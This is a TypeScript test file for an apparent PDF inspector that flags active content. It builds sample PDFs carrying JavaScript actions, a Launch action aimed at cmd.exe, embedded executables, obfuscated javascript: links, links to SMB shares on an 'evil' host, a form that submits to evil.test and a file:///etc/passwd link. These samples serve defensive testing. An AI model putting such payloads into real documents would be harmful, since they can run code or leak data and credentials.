import { deflateSync } from 'node:zlib'
import { PDFName, PDFString } from '@cantoo/pdf-lib'
import PDFKit from 'pdfkit'
import { expect, test } from 'vitest'
import { drawn, packedObjects, runScript, written } from '#server/testing/active-pdfs.ts'
import { inspectPdf } from './inspect-pdf.ts'

const SCRIPT = '<</S/JavaScript/JS(app.alert(1))>>'
const linked = (text: string) => written('', [`<</Subtype/Link/A<</S/URI/URI${text}>>>>`])
const STRANGE = [
  'javascript:app.alert\\(1\\)',
  'JaVa\\nScript:x',
  '\\152avascript:x',
  'file://evil/share',
  '\\\\\\\\evil\\\\share',
  '//evil/share',
  'smb://evil/share',
]
const linkTo = (link: string) => (document: Parameters<typeof runScript>[0]) => {
  const action = document.context.obj({ S: 'URI', URI: PDFString.of(link) })
  document.catalog.set(PDFName.of('OpenAction'), document.context.register(action))
}
const page = (more: string) => `6 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]${more}>> endobj\n`
const stream = (content: string) => `<</Length ${content.length}>>stream\n${content}\nendstream`
/** A document with a script that a later revision replaces. */
const revised = written('/OpenAction 4 0 R', [SCRIPT], '4 0 obj null endobj\ntrailer<</Root 1 0 R>>\n')

test.each<[string, Buffer]>([
  ['a script at its opening', written(`/OpenAction ${SCRIPT}`)],
  ['a script in a stream of objects', await drawn(runScript)],
  ['a script in an encrypted file', await drawn(runScript, { isEncrypted: true, useObjectStreams: false })],
  ['a script in an encrypted stream of objects', await drawn(runScript, { isEncrypted: true })],
  ['a script by name', await drawn((document) => document.addJavaScript('a', 'app.alert(1)'))],
  ['a script of a page', written('', ['null'], page(`/AA<</O ${SCRIPT}>>`))],
  ['a script of an annotation', written('', [`<</Type/Annot/Subtype/Widget/AA<</E ${SCRIPT}>>>>`])],
  ['a script whose kind stands elsewhere', written('/OpenAction 4 0 R', ['<</S 5 0 R/JS(x)>>', '/JavaScript'])],
  ['a script under an escaped name', written('/OpenAction<</S/J#61v#61Script/#4aS(x)>>')],
  ['a script in a rendition', written('', ['<</S/Rendition/JS 5 0 R>>', '(x)'])],
  ['a script that was taken out later', revised],
  ['a script that was put in later', written('', ['null'], `4 0 obj ${SCRIPT} endobj\n`)],
  ['a script that nothing refers to', written('', ['null', SCRIPT])],
  ['a script in an object with an odd number', written('', [], `9 %x\n0 %y\nobj${SCRIPT}\nendobj\n`)],
  ['a script in an object that does not end', written('', [], '9 0 obj <</A[(])<</S/JavaScript')],
  ['a script in the bytes of a stream', written('', [stream(`9 0 obj ${SCRIPT} endobj`)])],
  ['a script behind a text that has no end', written('', [packedObjects(8, ['(', SCRIPT])])],
  ['a script in the trailer', written('', [], `trailer<</Root<</OpenAction ${SCRIPT}>>>>`)],
  ['a program to start', written('/OpenAction<</S/Launch/F(cmd.exe)>>')],
  ['a program to start, in a link', written('', ['<</Subtype/Link/A<</S/Launch/Win<</F(cmd.exe)>>>>>>'])],
  ['a file in it', await drawn((document) => document.attach(Buffer.from('MZ'), 'a.exe'))],
  [
    'a file in it, plainly',
    await drawn((document) => document.attach(Buffer.from('MZ'), 'a'), { useObjectStreams: false }),
  ],
  ['a file beside a page', written('', ['<</Subtype/FileAttachment/FS<</F(a)/EF<</F 5 0 R>>>>>>', stream('MZ')])],
  ['an XFA form', written('/AcroForm<</Fields[]/XFA 4 0 R>>', [stream('<xdp/>')])],
  ['another file that opens with it', written('/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]>>')],
  ['another file, under an escaped name', written('/OpenAction<</S/GoTo#52/F(a.pdf)/D[0/Fit]>>')],
  ['a file within a file', written('/OpenAction<</S/GoToE/T<</R/C>>/D[0/Fit]>>')],
  ['a form that is sent', written('', ['<</Subtype/Widget/A<</S/SubmitForm/F<</FS/URL/F(https://evil.test)>>>>>>'])],
  ['data that is fetched', written('/OpenAction<</S/ImportData/F(\\\\\\\\evil\\\\a.fdf)>>')],
  ['a film', written('', ['<</Subtype/Movie/Movie<</F(\\\\\\\\evil\\\\a.avi)>>>>'])],
  ...STRANGE.map((link): [string, Buffer] => [`a link to ${link}`, linked(`(${link})`)]),
  ['a link whose text is hex', linked(`<${Buffer.from('javascript:x').toString('hex')}>`)],
  [
    'a link whose text stands elsewhere',
    written('', ['<</Subtype/Link/A<</S/URI/URI 5 0 R>>>>', '(file:///etc/passwd)']),
  ],
  ['a link whose text stands elsewhere, packed', written('', [packedObjects(8, ['<</S/URI/URI(file:///x)>>'])])],
  [
    'a link to a share in an encrypted file',
    await drawn(linkTo('file://evil/x'), { isEncrypted: true, useObjectStreams: false }),
  ],
  ['a share under every link', written('/URI<</Base(\\\\\\\\evil\\\\)>>', ['<</Subtype/Link/A<</S/URI/URI(a)>>>>'])],
  ['rich media', written('', ['<</Type/Annot/Subtype/RichMedia>>'])],
])('%s is refused as active content', async (_, bytes) => {
  expect(await inspectPdf(bytes)).toEqual({ trouble: 'active' })
})

test.each<[string, Buffer]>([
  ['with a predictor', written('', [packedObjects(8, [SCRIPT], '/DecodeParms<</Predictor 12>>')])],
  ['in another stream', written('', [stream(`8 0 obj ${packedObjects(9, [SCRIPT])} endobj`)])],
  ['in a form that nobody knows', written('', [packedObjects(8, [SCRIPT]).replace('FlateDecode', 'Secret')])],
])('objects that cannot be read, %s, are refused as damaged', async (_, bytes) => {
  expect(await inspectPdf(bytes)).toEqual({ trouble: 'damaged' })
})

function ofPdfKit(): Promise<Buffer> {
  const document = new PDFKit({ pdfVersion: '1.7', subset: 'PDF/A-2b', tagged: true, displayTitle: true })
  document.info.Title = 'JavaScript Launch XFA EmbeddedFile'
  document.text('A link', { link: 'https://nurses.test', underline: true }).addNamedDestination('RichText')
  document.outline.addItem('Launch')
  document.initForm()
  document.formText('name', 10, 10, 100, 20, { value: 'Maria' })
  document.end()
  return gathered(document)
}

async function gathered(pieces: AsyncIterable<unknown>): Promise<Buffer> {
  const all: Buffer[] = []
  for await (const piece of pieces) if (Buffer.isBuffer(piece)) all.push(piece)
  return Buffer.concat(all)
}

const form = (useObjectStreams: boolean) =>
  drawn(
    (document) => {
      const first = document.getPage(0)
      const fields = document.getForm()
      fields.createTextField('JavaScript').addToPage(first)
      fields.createCheckBox('XFA').addToPage(first)
    },
    { useObjectStreams },
  )
const goTo = (document: Parameters<typeof runScript>[0]) => {
  const action = document.context.obj({ S: 'GoTo', D: [document.getPage(0).ref, 'Fit'] })
  document.catalog.set(PDFName.of('OpenAction'), action)
}
// Bytes like those of a picture, in which each short name occurs.
const noise = Buffer.from(Array.from({ length: 2_000_000 }, (_, index) => (index * index * 31 + (index >> 7)) & 255))
const picture = `<</Subtype/Image/Length ${noise.length}>>stream\n${noise.toString('latin1')}\nendstream`
const words = '(/S/JavaScript/JS obj /XFA) Tj BT /JS 12 Tf /EF 9 Tf ET'

test.each<[string, Buffer]>([
  ['a form of fields', await form(false)],
  ['a form of fields in a stream of objects', await form(true)],
  ['a page to begin with', await drawn(goTo)],
  ['a page to begin with, encrypted', await drawn(goTo, { isEncrypted: true })],
  ['a tagged paper for the archive, with links, bookmarks and a form', await ofPdfKit()],
  ['a link to the web', written('', ['<</Subtype/Link/A<</S/URI/URI(https://a.test/?S=/JavaScript)>>>>'])],
  ['a link to the web, encrypted', await drawn(linkTo('https://nurses.test/a'), { isEncrypted: true })],
  ['a link for mail', linked('(MAILTO:registrar@school.test)')],
  ['a link without a scheme', linked('(www.school.test/a?b=c:d)')],
  ['a link within the page', linked('(#top)')],
  ['an order to print', written('/OpenAction<</S/Named/N/Print>>')],
  ['a signature', written('', ['<</FT/Sig/V<</Filter/Adobe.PPKLite/ByteRange[0 9 20 9]/Contents<2f4a53>>>>>'])],
  ['fonts called as what is looked for', written('', ['<</Font<</JS 5 0 R/EF 5 0 R>>>>', '<</Type/Font>>'])],
  ['words on a page', written('', [stream(words)])],
  ['words about it in what describes the paper', written('', [stream('<rdf:li>JavaScript, /JS</rdf:li>')])],
  ['a picture', written('', [picture])],
  ['a comment', written('', ['null %/S/JavaScript/JS(x)\n'])],
  ['packed words on a page', written('', [stream(deflateSync(words).toString('latin1'))])],
])('%s is accepted', async (_, bytes) => {
  expect(await inspectPdf(bytes)).toMatchObject({ pageCount: expect.any(Number) })
})
